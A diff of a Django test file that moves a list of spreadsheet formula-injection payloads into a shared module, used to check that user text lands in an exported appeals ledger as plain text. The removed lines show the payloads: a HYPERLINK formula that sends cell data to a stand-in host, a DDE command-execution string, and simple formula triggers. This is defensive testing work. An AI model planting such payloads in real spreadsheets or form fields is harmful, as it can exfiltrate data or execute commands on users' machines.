@@ -17,6 +17,7 @@ from qitong.core.models import Job
 from qitong.notify.models import Message
 from tests.appeals.conftest import at
 from tests.conftest import client_for
+from tests.core.formulas import PAYLOADS
 
 pytestmark = pytest.mark.django_db
 
@@ -143,17 +144,6 @@ def test_enterprises_have_no_ledger(city):
     response = client_for(city.ent_user).get("/api/v1/appeals/ledger.xlsx")
     assert response.status_code == 403
     assert response.json()["error"] == "forbidden"
-
-
-# What an outside probe filed as titles and names: each must reach the sheet as plain text.
-PAYLOADS = [
-    '=HYPERLINK("http://evil.example/?d="&B2&C2,"点击查看附件")',
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    "@SUM(1)",
-    "+1",
-    "-1",
-]
 
 
 def test_enterprise_text_reaches_the_ledger_as_text_never_a_formula(city):
